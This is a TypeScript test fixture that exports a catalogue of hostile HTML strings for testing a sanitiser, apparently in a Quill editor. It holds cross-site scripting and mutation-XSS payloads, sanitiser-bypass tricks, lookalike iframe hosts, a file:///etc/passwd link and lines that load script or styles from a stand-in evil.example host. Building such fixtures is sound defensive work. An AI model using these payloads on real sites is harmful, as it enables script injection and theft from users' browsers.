/** One attack of each kind in OWASP's and PortSwigger's cheat sheets; the test of the sanitiser makes more by chance. */

const scripts = [
  '<script>alert(1)</script>',
  '<script>alert(1)',
  '<script/XSS SRC="//evil.example/x.js"></script>',
  '<<SCRIPT>alert(1);//\\<</SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\x00>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
]

const media = [
  '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<img src=x:alert(alt) onerror=eval(src) alt=1>',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="data:image/png;base64,AAAA" onload=alert(1)>',
  '<video poster=javascript:alert(1)//></video>',
]

const frames = [
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe srcdoc="&lt;img src&equals;x onerror&equals;alert(1)&gt;" src="https://www.youtube.com/embed/abc"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/abc"></iframe>',
  '<iframe src="https://evil.example@www.youtube.com/embed/abc"></iframe>',
  '<iframe src="http://www.youtube.com/embed/abc"></iframe>',
  '<iframe src="/\\evil.example/embed/abc"></iframe>',
  '<iframe src="https://www.youtube.com:8443/embed/abc"></iframe>',
  '<iframe src="https://www.youtube.com/embed/../redirect?q=evil"></iframe>',
  '<iframe src="https://player.vimeo.com/video/1"><script>alert(1)</script></iframe>',
  '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
]

const addresses = [
  'javascript:alert(1)',
  '\u0000javascript:alert(1)',
  'javascript://%0aalert(1)',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+',
  'file:///etc/passwd',
  'https://user:password@evil.example/',
].map((address) => `<a href="${address}">x</a>`)

const foreign = [
  '<svg><script href="data:,alert(1)" /></svg>',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1)></svg>#x">',
  '<svg><title><style><img src=x onerror=alert(1)></style></title></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
]

/** Texts that are harmless when parsed, but harmful once written and read again. */
const mutating = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><p></p><style><!--</style><img src/onerror=alert(1)>--></style></math>',
  '<noscript><style></noscript><img src=x onerror=alert(1)></style>',
  '<p id="</noscript><img src=x onerror=alert(1)>"></p>',
  '<listing>&lt;img onerror=alert(1) src=x&gt;</listing>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?><img src=x onerror=alert(1)>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<table><a href="javascript:alert(1)"><tr><td>x',
  '<b><p><b><p><a href=x><table><a href="javascript:alert(1)">x',
  '<p><svg><foreignObject><p><math><mi><p><img src=x onerror=alert(1)>',
  `${'<div>'.repeat(600)}<img src=x onerror=alert(1)>`,
  '<a href="x"><svg><a href="javascript:alert(1)">x</a></svg></a>',
  '<img alt="<x" title="/><img src=url404 onerror=alert(1)>">',
  '<img alt="`><script>alert(1)</script>"`>',
]

const styled = [
  '<p style="color:expression(alert(1))">x</p>',
  '<p style="color:red/**/;behavior:url(x.htc)">x</p>',
  '<p style="col\\6fr:red;backgr\\06fund:url(//evil.example)">x</p>',
  '<p style="color:red\\;x:expression(alert(1))">x</p>',
  '<p style="color: rgb(0,0,0);;;@import \'//evil.example/x.css\'">x</p>',
  '<p style=\'color:&#117;rl("javascript:alert(1)")\'>x</p>',
  '<span style="color:var(--x);--x:url(//evil.example)">x</span>',
  '<p class="ql-ui danger external-media" data-src="https://evil.example/x">x</p>',
]

const documents = [
  '<base href="//evil.example/">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<form id=x></form><input form=x name=action><p id=location name=cookie>x</p>',
  '<x onclick=alert(1)>x</x>',
  '<a ping="//evil.example" download href="/x">x</a>',
  '<p popover id=x onbeforetoggle=alert(1)>x</p><button popovertarget=x>x</button>',
  '<p \x00onclick=alert(1)>x</p>',
  '<p x="\'" onclick=alert(1) y="\'">x</p>',
]

/** Texts that some version of Quill has let through, or that it trusts when it reads a page. */
const quill = [
  '<p><a class="ql-preview" href="javascript:alert(1)" target="_blank" rel="opener">x</a></p>',
  '<span class="ql-formula" data-value="\\href{javascript:alert(1)}{x}">x</span>',
  '<ol><li data-list="bullet" onmouseover="alert(1)"><span class="ql-ui" contenteditable="false" onclick="alert(1)"></span>x</li></ol>',
  '<ol><li data-list="&quot;><img src=x onerror=alert(1)>">x</li></ol>',
  '<img src="https://www.example.org/x.png" class="ql-align-center" width="1&quot; onerror=alert(1)">',
  '<div class="ql-tooltip" data-mode="link"><input type="text" data-video="javascript:alert(1)"></div>',
]

/** Those that swallow what follows them come last. */
export const hostileHtml: readonly string[] = [
  ...documents,
  ...quill,
  ...styled,
  ...addresses,
  ...frames,
  ...media,
  ...foreign,
  ...scripts,
  ...mutating,
]
